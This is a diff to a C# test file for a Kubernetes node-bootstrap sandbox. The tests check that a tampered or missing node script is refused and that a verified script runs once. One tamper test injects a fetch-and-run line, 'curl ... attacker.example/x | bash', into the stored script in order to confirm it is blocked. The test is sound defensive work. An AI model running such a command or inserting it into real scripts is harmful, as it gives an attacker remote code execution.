@@ -1,3 +1,5 @@
+using Kgen.Tests.Support;
+
 namespace Kgen.Tests.Sandbox;
 
 /// <summary>
@@ -168,7 +170,7 @@ public sealed class SandboxTests
         Assert.DoesNotContain(calls, c => (c.StartsWith("aws ", StringComparison.Ordinal) && c != "aws --version") || c.StartsWith("kubeadm init", StringComparison.Ordinal)
             || c.StartsWith("kubeadm join", StringComparison.Ordinal) || c.StartsWith("kubeadm token", StringComparison.Ordinal));
         Assert.Contains("worker node ip-10-0-3-30.ec2.internal joined cluster sandbox.k8s.local", output, StringComparison.Ordinal);
-        Assert.DoesNotContain("tokens/", box.UserData("workers"), StringComparison.Ordinal);
+        Assert.DoesNotContain("tokens/", box.NodeScript("workers"), StringComparison.Ordinal);
         AssertNoTokenInTheStore(box);
 
         // The kubelet's credential is the instance's AWS identity: the AWS CLI presigns sts:GetCallerIdentity for
@@ -640,6 +642,65 @@ public sealed class SandboxTests
         {
             Assert.Equal(File.ReadAllText(Path.Combine(box.Store, "pki", f)), File.ReadAllText(Path.Combine(box.Root, "etc", "kubernetes", "pki", f)));
         }
+    }
+
+    [Fact]
+    public void A_node_script_whose_bytes_differ_from_the_sha256_in_the_user_data_is_refused_and_nothing_of_it_runs()
+    {
+        using var box = new NodeSandbox(workerStore: true);
+        box.SetState("api", "up");
+        var userData = box.UserData("workers");
+        var key = NodeScripts.Key(userData)!;
+
+        // Someone with write access to the store swaps the script for one that would do something else.
+        var path = Path.Combine(box.Store, key);
+        File.WriteAllText(path, File.ReadAllText(path).Replace("log \"node prepared\"", "curl -fsS https://attacker.example/x | bash\nlog \"node prepared\"", StringComparison.Ordinal));
+
+        var (exit, output) = box.Run(userData, "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");
+
+        Assert.Equal(1, exit);
+        Assert.Contains($"FATAL: file://{box.Store}/{key} is not the node script this user data names (SHA-256 {key.Split('/')[^1][..^3]}, got ", output, StringComparison.Ordinal);
+        Assert.Contains("nothing from it is run", File.ReadAllText(Path.Combine(box.Root, "var", "log", "kgen-bootstrap.log")), StringComparison.Ordinal);
+        Assert.DoesNotContain(box.Calls, c => c.StartsWith("apt-get", StringComparison.Ordinal) || c.StartsWith("systemctl", StringComparison.Ordinal)
+            || c.Contains("attacker.example", StringComparison.Ordinal));
+        Assert.Empty(Directory.GetFiles(Path.Combine(box.Root, "var", "lib", "kgen")));
+    }
+
+    [Fact]
+    public void A_node_script_missing_from_the_store_stops_the_boot_and_says_what_to_check()
+    {
+        using var box = new NodeSandbox(workerStore: true);
+        var userData = box.UserData("workers");
+        var key = NodeScripts.Key(userData)!;
+        File.Delete(Path.Combine(box.Store, key));
+
+        var (exit, output) = box.Run(userData, "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");
+
+        Assert.Equal(1, exit);
+        Assert.Contains($"FATAL: cannot read file://{box.Store}/{key}; check that it exists", output, StringComparison.Ordinal);
+        Assert.DoesNotContain(box.Calls, c => c.StartsWith("apt-get", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public void The_user_data_runs_the_node_script_it_fetched_with_one_log_and_a_rerun_fetches_the_same_script()
+    {
+        using var box = new NodeSandbox(workerStore: true);
+        box.SetState("api", "up");
+        var userData = box.UserData("workers");
+
+        var first = box.Run(userData, "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");
+        Assert.True(first.Exit == 0, first.Output);
+        var log = File.ReadAllText(Path.Combine(box.Root, "var", "log", "kgen-bootstrap.log"));
+
+        // Both stages write the one log, each line once (the node script does not tee a second time).
+        Assert.Contains("verified; running", log, StringComparison.Ordinal);
+        Assert.Contains("worker node ip-10-0-3-30.ec2.internal joined cluster sandbox.k8s.local", log, StringComparison.Ordinal);
+        Assert.Equal(1, log.Split('\n').Count(l => l.Contains("node prepared", StringComparison.Ordinal)));
+        Assert.Equal(box.NodeScript("workers"), File.ReadAllText(Path.Combine(box.Root, "var", "lib", "kgen", "nodeup.sh")));
+
+        var second = box.Run(userData, "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");
+        Assert.True(second.Exit == 0, second.Output);
+        Assert.Equal(box.NodeScript("workers"), File.ReadAllText(Path.Combine(box.Root, "var", "lib", "kgen", "nodeup.sh")));
     }
 
     [Fact]
